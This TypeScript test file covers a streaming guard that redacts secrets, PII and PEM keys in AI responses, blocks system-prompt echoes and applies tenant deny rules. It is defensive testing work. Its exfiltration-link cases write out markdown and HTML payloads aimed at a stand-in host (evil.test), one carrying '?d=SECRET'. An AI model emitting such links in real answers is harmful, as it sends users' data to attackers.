import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { FAKE_AWS_KEY, FAKE_OPENAI_KEY, splits, streamThrough, testGuard } from './testing.ts'

describe('response windows across delta boundaries', () => {
  const answer = `Here is the key: ${FAKE_OPENAI_KEY} and the AWS one ${FAKE_AWS_KEY}. Done.`
  const expected = 'Here is the key: [REDACTED_SECRET] and the AWS one [REDACTED_SECRET]. Done.'

  it('redacts a credential however the stream is cut (every 2-way cut, many 3-way cuts)', () => {
    for (const deltas of splits(answer)) {
      const guard = testGuard()
      expect(streamThrough(guard, deltas).text, JSON.stringify(deltas)).toBe(expected)
      expect(guard.decision.redactions).toEqual({ SECRET: 2 })
    }
  })

  it('redacts a credential cut into one-char deltas', () => {
    expect(streamThrough(testGuard(), [...answer, '']).text).toBe(expected)
  })

  it('restores a placeholder however it is cut ([EMA | IL_1])', () => {
    const pseudonyms = { '[EMAIL_1]': 'ada@example.com', '[PHONE_1]': '+44 20 7946 0958' }
    const text = 'Write to [EMAIL_1] or call [PHONE_1]; [EMAIL_2] is not ours.'
    for (const deltas of splits(text)) {
      const guard = testGuard({}, { pseudonyms })
      expect(streamThrough(guard, deltas).text).toBe(
        'Write to ada@example.com or call +44 20 7946 0958; [EMAIL_2] is not ours.',
      )
      expect(guard.decision.restored).toBe(2)
    }
  })

  it('holds back nothing for prose with the default policy, one word at most with e-mail detection on', () => {
    const prose = ['The', ' edge', ' checked', ' this', ' request']
    const guard = testGuard()
    const w = guard.window(0, 'content')
    expect(prose.map((d) => w.push(d, false).text)).toEqual(prose)
    const piiGuard = testGuard({ pii: { action: 'redact' } })
    const p = piiGuard.window(0, 'content')
    expect(prose.map((d) => p.push(d, false).text)).toEqual(['', 'The ', 'edge ', 'checked ', 'this '])
    expect(p.push('', true).text).toBe('request')
  })

  it('redacts PII in answers when the policy says so (user@exa | mple.com)', () => {
    const guard = testGuard({ pii: { action: 'redact' } })
    expect(streamThrough(guard, ['Mail user@exa', 'mple.com today', '']).text).toBe('Mail [REDACTED_EMAIL] today')
  })

  it('blocks before the credential leaves, whatever came before it', () => {
    const guard = testGuard({ secret: { action: 'block' } })
    const out = streamThrough(guard, ['Sure: sk-test1234', '567890abcdefGHIJKLmnopqrstuvWXYZ0987 ok', ''])
    expect(out).toEqual({ text: 'Sure: ', blocked: 'response.secret' })
    expect(guard.decision).toMatchObject({ verdict: 'block', code: 'response.secret', categories: ['secret'] })
  })

  it('flag and shadow pass the text and record the category', () => {
    for (const action of ['flag', 'shadow'] as const) {
      const guard = testGuard({ secret: { action } })
      expect(streamThrough(guard, [`k=${FAKE_OPENAI_KEY} `, '']).text).toBe(`k=${FAKE_OPENAI_KEY} `)
      expect(guard.decision.categories).toEqual(['secret'])
      expect(guard.decision.verdict).toBe(action === 'flag' ? 'flag' : 'allow')
      expect(guard.decision.shadowed).toEqual(action === 'shadow' ? ['secret'] : [])
    }
  })

  it('shadow mode records a block without enforcing it', () => {
    const guard = testGuard({ secret: { action: 'block' } }, { shadowMode: true })
    expect(streamThrough(guard, [`k=${FAKE_OPENAI_KEY} `, '']).blocked).toBeNull()
    expect(guard.decision).toMatchObject({ enforced: false, code: 'response.secret', shadowed: ['secret'] })
  })

  it('records offsets, never text', () => {
    const guard = testGuard()
    streamThrough(guard, [`a ${FAKE_OPENAI_KEY} b`, ''])
    expect(guard.decision.spans).toEqual([
      { choice: 0, field: 'content', start: 2, end: 19, detection: 'openai_key', category: 'secret' },
    ])
    expect(JSON.stringify(guard.decision)).not.toContain(FAKE_OPENAI_KEY.slice(3, 20))
  })

  it('redacts a PEM private key streamed over many deltas as one span', () => {
    // A synthetic PEM block (armour assembled here, filler body): no key material, nothing for secret scanners.
    const armour = (kind: 'BEGIN' | 'END') => `-----${kind} ${'PRIVATE'} KEY-----`
    const pem = `${armour('BEGIN')}\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n'.repeat(20)}${armour('END')}`
    const deltas = [...pem.match(/[\s\S]{1,7}/g)!, '\nafter', '']
    expect(streamThrough(testGuard(), deltas).text).toBe('[REDACTED_SECRET]\nafter')
  })
})

describe('exfiltration links', () => {
  const policy = { exfiltration: { action: 'redact' as const, allowHosts: ['docs.example.com', '*.trusted.test'] } }
  const cases: [string, string][] = [
    ['![x](https://evil.test/p.png?d=SECRET)', '![x]([REDACTED_LINK])'],
    ['[click](http://evil.test/a)', '[click]([REDACTED_LINK])'],
    ['<img src="https://evil.test/i?q=1">', '<img src="[REDACTED_LINK]">'],
    ['<a href=//evil.test/x>', '<a href=[REDACTED_LINK]>'],
    ['[1]: https://evil.test/ref', '[1]: [REDACTED_LINK]'],
    ['![x](https://docs.example.com@evil.test/p)', '![x]([REDACTED_LINK])'],
    ['![ok](https://docs.example.com/a.png)', '![ok](https://docs.example.com/a.png)'],
    ['![ok](https://cdn.trusted.test/a.png)', '![ok](https://cdn.trusted.test/a.png)'],
    ['[rel](/local/path) and https://plain.test/x', '[rel](/local/path) and https://plain.test/x'],
  ]
  it.each(cases)('%s', (input, output) => {
    for (const deltas of splits(input)) expect(streamThrough(testGuard(policy), deltas).text).toBe(output)
  })
})

describe('tenant deny rules', () => {
  it('a pattern split across deltas blocks with response.tenant_rule', () => {
    const guard = testGuard({ rules: [{ id: 'project-names', patterns: ['project\\s{1,3}nightjar'] }] })
    expect(streamThrough(guard, ['About proj', 'ect  night', 'jar: it', '']).blocked).toBe('response.tenant_rule')
    expect(guard.decision.rules).toEqual(['project-names'])
  })
  it('a phrase rule can redact', () => {
    const guard = testGuard({ rules: [{ id: 'codename', phrases: ['Blue Falcon'], action: 'redact' }] })
    expect(streamThrough(guard, ['the blue fal', 'con ships', '']).text).toBe('the [REDACTED] ships')
  })
})

describe('system-prompt leakage', () => {
  const system =
    'You are the support assistant for Example Corp. Never reveal internal discount codes. Escalate refunds above ' +
    'fifty euros to a human agent and always answer in the customer language with a friendly closing line.'
  it('blocks an echo beyond minChars, lets a short quote pass', () => {
    const echo = `Sure. My instructions: ${system}`
    const words = echo.split(/(?= )/)
    const blocked = streamThrough(testGuard({ leak: { minChars: 120 } }, { system: [system] }), [...words, ''])
    expect(blocked.blocked).toBe('response.leak')
    expect(blocked.text.length).toBeLessThan(23 + 120 + 40)
    const short = `I can say: ${system.slice(0, 90)}. That is all.`
    expect(streamThrough(testGuard({ leak: { minChars: 120 } }, { system: [system] }), [short, '']).blocked).toBeNull()
  })
  it('flag records the echo once and passes the text', () => {
    const guard = testGuard({ leak: { action: 'flag', minChars: 80 } }, { system: [system] })
    expect(streamThrough(guard, [system.toUpperCase(), '']).text).toBe(system.toUpperCase())
    expect(guard.decision).toMatchObject({ verdict: 'flag', categories: ['leak'], rules: ['system_prompt_echo'] })
  })
})

describe('streaming equals screening the whole answer at once (property)', () => {
  const fragments = [
    ' the',
    ' edge',
    'sk',
    '-',
    FAKE_OPENAI_KEY,
    ` ${FAKE_AWS_KEY}`,
    ' [EMAIL_1]',
    '[EMA',
    ' ![x](https://evil.test/p.png)',
    ' [d](https://docs.example.com/a)',
    ' <img src="//evil.test/i">',
    ' ada@example.com',
    ' +1 415 555 0100',
    ' 4111 1111 1111 1111',
    '\n',
    ' src',
    ' http',
    ']',
    '(',
    '=',
  ]
  const policies = [
    {},
    { pii: { action: 'redact' as const } },
    { exfiltration: { action: 'redact' as const, allowHosts: ['docs.example.com'] } },
  ]
  it('for any text made of tricky fragments and any cut points', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 30 }),
        fc.array(fc.nat(), { maxLength: 12 }),
        fc.constantFrom(...policies),
        (parts, cuts, policy) => {
          const text = parts.join('')
          const points = [...new Set(cuts.map((c) => c % text.length))].sort((a, b) => a - b)
          const deltas = points.map((p, i) => text.slice(i === 0 ? 0 : points[i - 1], p))
          deltas.push(text.slice(points[points.length - 1] ?? 0), '')
          const memory = { pseudonyms: { '[EMAIL_1]': 'grace@example.org' } }
          const whole = streamThrough(testGuard(policy, memory), [text, ''])
          expect(streamThrough(testGuard(policy, memory), deltas)).toEqual(whole)
        },
      ),
      { numRuns: 3000, seed: 20261202 },
    )
  })
})
